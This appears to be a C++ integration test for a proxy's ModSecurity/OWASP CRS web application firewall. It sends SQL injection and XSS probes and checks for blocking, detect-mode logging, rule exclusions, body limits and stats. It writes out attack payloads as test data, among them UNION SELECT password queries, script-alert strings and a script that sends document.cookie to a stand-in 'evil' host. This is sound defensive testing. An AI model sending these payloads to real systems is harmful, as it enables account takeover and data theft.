// The WAF (ModSecurity v3 + OWASP CRS) against the real service: classic SQL injection and XSS
// probes in the query, the body and the headers are blocked with 403 and the request id in block
// mode, only logged in detect mode, let through when their rule is excluded (by id, or by path);
// realistic benign requests pass untouched; the request body is held back up to its inspection
// limit (413 past it, or inspected in part); and the access log, the error log and stats.get
// report what happened.
#include <QElapsedTimer>
#include <QProcess>
#include <QThread>
#include <QTest>
#include <atomic>
#include <nlohmann/json.hpp>
#include <thread>

#include "fake_origin.h"
#include "proxy_process.h"
#include "proxyctl_run.h"
#include "raw_client.h"

using namespace proxy::test;
using json = nlohmann::json;

namespace {

struct Req {
    std::string method = "GET";
    std::string target = "/";
    std::vector<std::pair<std::string, std::string>> headers;
    std::string body;
    bool chunked = false;

    std::string text() const {
        std::string r = method + " " + target + " HTTP/1.1\r\nHost: shop.example.com\r\n"
                        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\n"
                        "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
                        "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n";
        for (const auto& [n, v] : headers) r += n + ": " + v + "\r\n";
        if (chunked) {
            r += "Transfer-Encoding: chunked\r\n\r\n";
            // Several chunks, so the body arrives in pieces.
            for (std::size_t at = 0; at < body.size(); at += 7) {
                const std::string piece = body.substr(at, 7);
                char size[16];
                std::snprintf(size, sizeof(size), "%zx\r\n", piece.size());
                r += size + piece + "\r\n";
            }
            return r + "0\r\n\r\n";
        }
        if (!body.empty() || method == "POST" || method == "PUT")
            r += "Content-Length: " + std::to_string(body.size()) + "\r\n";
        return r + "\r\n" + body;
    }
};

Req form(const std::string& target, const std::string& body) {
    Req r;
    r.method = "POST";
    r.target = target;
    r.headers = {{"Content-Type", "application/x-www-form-urlencoded"}};
    r.body = body;
    return r;
}

Req get(const std::string& target, std::vector<std::pair<std::string, std::string>> headers = {}) {
    Req r;
    r.target = target;
    r.headers = std::move(headers);
    return r;
}

}  // namespace

class WafIntegrationTest : public QObject {
    Q_OBJECT

    std::unique_ptr<FakeOrigin> origin_;
    std::unique_ptr<ProxyProcess> proxy_;
    int port_ = 0;
    std::string endpoint_;

    RawResponse send(const Req& r) { return roundTrip(port_, r.text()); }

    json proxyctl(const QStringList& args) { return proxyctlJson(endpoint_, args); }

    // The access-log row of one request, among those under pathPrefix (the log is written
    // asynchronously).
    json logRow(const std::string& requestId, const std::string& pathPrefix) {
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < 10000) {
            const json out = proxyctl({"logs", "--path-prefix", QString::fromStdString(pathPrefix)});
            if (out.is_object() && out["rows"].is_array())
                for (const json& row : out["rows"])
                    if (row.value("request_id", std::string()) == requestId) return row;
            QThread::msleep(100);
        }
        return json();
    }

    std::size_t originSaw(const std::string& needle) {
        std::size_t n = 0;
        for (const auto& r : origin_->requests())
            if (r.target.find(needle) != std::string::npos || r.body.find(needle) != std::string::npos ||
                r.head.find(needle) != std::string::npos)
                ++n;
        return n;
    }

private slots:
    void initTestCase() {
        origin_ = std::make_unique<FakeOrigin>("A");
        port_ = freePort();
        endpoint_ = "/tmp/proxy-waf-test-" + std::to_string(port_) + "/control.sock";
        auto route = [](const std::string& name, const std::string& prefix, json waf) {
            json r = {{"name", name}, {"match", {{"path_prefix", prefix}}}, {"upstream", "app"}};
            if (!waf.is_null()) r["security"] = {{"waf", waf}};
            return r;
        };
        json c = {
            {"workers", 2},
            {"control", {{"endpoint", endpoint_}}},
            {"listeners", json::array({{{"name", "web"}, {"address", "127.0.0.1:" + std::to_string(port_)}}})},
            {"upstreams", json::array({{{"name", "app"},
                                        {"servers", json::array({{{"address", "127.0.0.1:" + std::to_string(origin_->port())}}})}}})},
            {"security", {{"waf", {{"mode", "block"}, {"paranoia", 1},
                                   {"exclusions", json::array({{{"path_prefix", "/legacy/"}, {"rules", {942100}}}})}}}}},
            {"routes", json::array({
                route("detect", "/detect/", {{"mode", "detect"}}),
                route("excluded", "/excluded/", {{"mode", "block"}, {"exclude_rules", {942100}}}),
                route("small", "/small/", {{"mode", "block"}, {"request_body_limit", 1024}}),
                route("partial", "/partial/", {{"mode", "block"}, {"request_body_limit", 1024},
                                               {"over_limit", "inspect_partial"}}),
                route("off", "/off/", {{"mode", "off"}}),
                route("main", "/", nullptr)})}};
        proxy_ = std::make_unique<ProxyProcess>();
        QVERIFY2(proxy_->start(c.dump(2), port_), qPrintable(proxy_->output()));
    }

    void cleanupTestCase() {
        if (proxy_) QCOMPARE(proxy_->stop(), 0);
    }

    void benignRequestsPass_data() {
        QTest::addColumn<QString>("name");
        QTest::addColumn<int>("index");
        for (int i = 0; i < 12; ++i) QTest::newRow(qPrintable(QString::number(i))) << QString() << i;
    }
    void benignRequestsPass() {
        QFETCH(int, index);
        // What a shop's real traffic looks like: pages, assets, searches, forms, JSON, cookies.
        const std::vector<Req> requests = {
            get("/"),
            get("/static/css/site.min.css?v=3.2.1", {{"Referer", "https://shop.example.com/"}}),
            get("/products?category=shoes&size=42&sort=price_asc&page=2"),
            get("/search?q=red+running+shoes&lang=en"),
            get("/search?q=O%27Reilly+books"),  // an apostrophe in a name is not an attack
            get("/account", {{"Cookie", "session=3f9a1c0b7e5d4a2f; theme=dark; consent=1"}}),
            form("/login", "username=alice%40example.com&password=correct+horse+battery&remember=on"),
            form("/checkout", "address=12+Main+Street%2C+Apt+4&city=Springfield&zip=12345&note=Leave+at+the+door%2C+please"),
            [] {
                Req r;
                r.method = "POST";
                r.target = "/api/orders";
                r.headers = {{"Content-Type", "application/json"}, {"Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"}};
                r.body = R"({"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"comment":"gift wrap, thanks!"})";
                return r;
            }(),
            get("/images/logo.png", {{"Accept", "image/avif,image/webp,*/*"}, {"If-None-Match", "\"abc123\""}}),
            get("/blog/2024/10/how-we-select-our-coffee-beans"),
            [] {
                Req r = form("/comments", "text=Great+article%21+I+liked+the+part+about+roasting.&author=Bob");
                r.chunked = true;
                return r;
            }(),
        };
        const Req& r = requests.at(static_cast<std::size_t>(index));
        const auto before = origin_->requestCount();
        const RawResponse response = send(r);
        QVERIFY2(response.status == 200, qPrintable(QString::fromStdString(r.text() + "\n=> " + response.head)));
        QCOMPARE(origin_->requestCount(), before + 1);
        if (!r.body.empty()) QCOMPARE(origin_->requests().back().body, r.body);  // held, then forwarded intact
    }

    void attacksAreBlocked_data() {
        QTest::addColumn<int>("index");
        QTest::addColumn<QString>("marker");
        const char* names[] = {"sqli query", "sqli union", "sqli body", "sqli header", "sqli cookie", "xss query",
                               "xss body", "xss header", "sqli chunked body", "xss json body"};
        for (int i = 0; i < 10; ++i) QTest::newRow(names[i]) << i << QStringLiteral("attack%1").arg(i);
    }
    void attacksAreBlocked() {
        QFETCH(int, index);
        QFETCH(QString, marker);
        const std::string m = marker.toStdString();
        // Each probe carries a marker so the test can prove the origin never saw it.
        std::vector<Req> probes = {
            get("/item?tag=" + m + "&id=1%27%20OR%201%3D1--"),
            get("/item?tag=" + m + "&id=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"),
            form("/login", "tag=" + m + "&user=admin%27--&password=x%27%20OR%20%271%27%3D%271"),
            get("/item?tag=" + m, {{"Referer", "http://x/' or 1=1--"}}),
            get("/item?tag=" + m, {{"Cookie", "session=1' UNION SELECT password FROM users--"}}),
            get("/item?tag=" + m + "&q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
            form("/comment", "tag=" + m + "&text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
            get("/item?tag=" + m, {{"User-Agent", "<script>alert(1)</script>"}}),
            [&] {
                Req r = form("/login", "tag=" + m + "&user=admin%27%20OR%20%271%27%3D%271%27--&password=x");
                r.chunked = true;
                return r;
            }(),
            [&] {
                Req r;
                r.method = "POST";
                r.target = "/api/comment?tag=" + m;
                r.headers = {{"Content-Type", "application/json"}};
                r.body = R"({"text":"<script>document.location='http://evil/?c='+document.cookie</script>"})";
                return r;
            }(),
        };
        const RawResponse response = send(probes.at(static_cast<std::size_t>(index)));
        QCOMPARE(response.status, 403);
        const std::string id = response.header("x-request-id");
        QVERIFY(!id.empty());
        QVERIFY2(response.body.find(id) != std::string::npos, response.body.c_str());  // the error page names it
        QCOMPARE(originSaw(m), std::size_t{0});
    }

    void detectModeOnlyLogs() {
        const RawResponse response = send(get("/detect/item?id=1%27%20OR%201%3D1--&tag=detected1"));
        QCOMPARE(response.status, 200);
        QCOMPARE(originSaw("detected1"), std::size_t{1});
        const json row = logRow(response.header("x-request-id"), "/detect/");
        QVERIFY2(row.is_object(), "no access-log row");
        const std::string action = row["security_action"].get<std::string>();
        QVERIFY2(action.starts_with("waf-detect ") && action.find("942100") != std::string::npos &&
                     action.find("949110") != std::string::npos,
                 action.c_str());
        // The error log names the rule and its message, with the request id.
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < 5000 && !proxy_->output().contains("waf detect: rule 942100")) QThread::msleep(50);
        const QString out = proxy_->output();
        QVERIFY2(out.contains("waf detect: rule 942100: SQL Injection Attack Detected"), qPrintable(out.right(2000)));
        QVERIFY(out.contains(QString::fromStdString(response.header("x-request-id"))));
    }

    void blockIsLoggedWithRuleIds() {
        const RawResponse response = send(get("/blocklog/item?id=1%27%20OR%201%3D1--"));
        QCOMPARE(response.status, 403);
        const json row = logRow(response.header("x-request-id"), "/blocklog/");
        QVERIFY2(row.is_object(), "no access-log row");
        QCOMPARE(row["status"].get<int>(), 403);
        const std::string action = row["security_action"].get<std::string>();
        QVERIFY2(action == "waf-block 942100,949110", action.c_str());
    }

    void excludedRulesLetRequestsThrough() {
        // By id on a route, and by path prefix at the top level.
        QCOMPARE(send(get("/excluded/item?id=1%27%20OR%201%3D1--&tag=excl1")).status, 200);
        QCOMPARE(send(get("/legacy/item?id=1%27%20OR%201%3D1--&tag=excl2")).status, 200);
        QCOMPARE(originSaw("excl1"), std::size_t{1});
        QCOMPARE(originSaw("excl2"), std::size_t{1});
        // Only that rule: XSS is still caught there.
        QCOMPARE(send(get("/excluded/item?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).status, 403);
        QCOMPARE(send(get("/legacy/item?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).status, 403);
        // The path exclusion is a prefix of the path, not anywhere in the URL.
        QCOMPARE(send(get("/item/legacy/?id=1%27%20OR%201%3D1--")).status, 403);
        QCOMPARE(send(get("/off/item?id=1%27%20OR%201%3D1--&tag=excl3")).status, 200);
    }

    void bodyInspectionLimit() {
        const std::string filler = "&pad=" + std::string(1500, 'a');
        const std::string attack = "user=admin%27%20OR%20%271%27%3D%271%27--";
        // reject (the default): over the limit is 413 before anything is forwarded, whatever
        // the framing.
        auto big = form("/small/form", "tag=lim1" + filler);
        QCOMPARE(send(big).status, 413);
        big.chunked = true;
        QCOMPARE(send(big).status, 413);
        QCOMPARE(originSaw("lim1"), std::size_t{0});
        QCOMPARE(send(form("/small/form", "tag=lim2&" + attack)).status, 403);
        QCOMPARE(send(form("/small/form", "tag=lim3&x=1")).status, 200);
        // inspect_partial: the first 1024 bytes decide; the rest goes through uninspected.
        QCOMPARE(send(form("/partial/form", "tag=lim4&" + attack + filler)).status, 403);
        QCOMPARE(originSaw("lim4"), std::size_t{0});
        auto late = form("/partial/form", "tag=lim5" + filler + "&" + attack);
        QCOMPARE(send(late).status, 200);
        QCOMPARE(originSaw("lim5"), std::size_t{1});
        QCOMPARE(origin_->requests().back().body, late.body);
        late.chunked = true;
        late.body.replace(late.body.find("lim5"), 4, "lim6");
        QCOMPARE(send(late).status, 200);
        QCOMPARE(origin_->requests().back().body, late.body);
    }

    // Both workers at once, scanners and browsers mixed: CRS 913100 writes ModSecurity's IP
    // collection on a scanner's User-Agent while 910120 reads it on every request. Each worker has
    // its own ModSecurity object (docs/security.md, "Threads"), so nothing mutable is shared; every
    // answer must be the right one and the service must stay up.
    void workersInspectConcurrently() {
        std::atomic<int> wrong{0}, done{0};
        std::vector<std::thread> threads;
        for (int t = 0; t < 4; ++t) {
            threads.emplace_back([&, t] {
                for (int i = 0; i < 30; ++i) {
                    const bool scanner = (i + t) % 2 == 0;
                    const Req r = scanner ? get("/scan?i=" + std::to_string(i), {{"User-Agent", "sqlmap/1.7.2#stable"}})
                                          : get("/products?page=" + std::to_string(i));
                    const int status = send(r).status;
                    if (status != (scanner ? 403 : 200)) wrong.fetch_add(1);
                    done.fetch_add(1);
                }
            });
        }
        for (auto& th : threads) th.join();
        QCOMPARE(done.load(), 120);
        QCOMPARE(wrong.load(), 0);
        QCOMPARE(send(get("/")).status, 200);
    }

    void statsCountBlocks() {
        const json stats = proxyctl({"stats"});
        QVERIFY2(stats.is_object(), stats.dump().c_str());
        const json& waf = stats["security"]["waf"];
        QVERIFY2(waf.is_object(), stats.dump().c_str());
        QVERIFY(waf["blocked"].get<int>() >= 10);
        QVERIFY(waf["detected"].get<int>() >= 1);
        QVERIFY(waf["body_over_limit"].get<int>() >= 3);
        // block at the top level (main and /legacy/ share it), detect, excluded, small, partial.
        QCOMPARE(waf["rule_sets"].get<int>(), 5);
    }

    void missingRuleSetIsAClearError() {
        FakeOrigin origin("B");
        const int port = freePort();
        json c = {{"listeners", json::array({{{"name", "web"}, {"address", "127.0.0.1:" + std::to_string(port)}}})},
                  {"upstreams", json::array({{{"name", "app"}, {"servers", json::array({{{"address", "127.0.0.1:" + std::to_string(origin.port())}}})}}})},
                  {"routes", json::array({{{"name", "main"}, {"upstream", "app"}}})},
                  {"security", {{"waf", {{"mode", "block"}, {"crs_path", "/nonexistent/crs"}}}}}};
        ProxyProcess proxy;
        QVERIFY(!proxy.start(c.dump(), port));
        proxy.stop(5000);
        QVERIFY2(proxy.output().contains("/nonexistent/crs"), qPrintable(proxy.output()));
    }
};

QTEST_GUILESS_MAIN(WafIntegrationTest)
#include "waf_integration_test.moc"
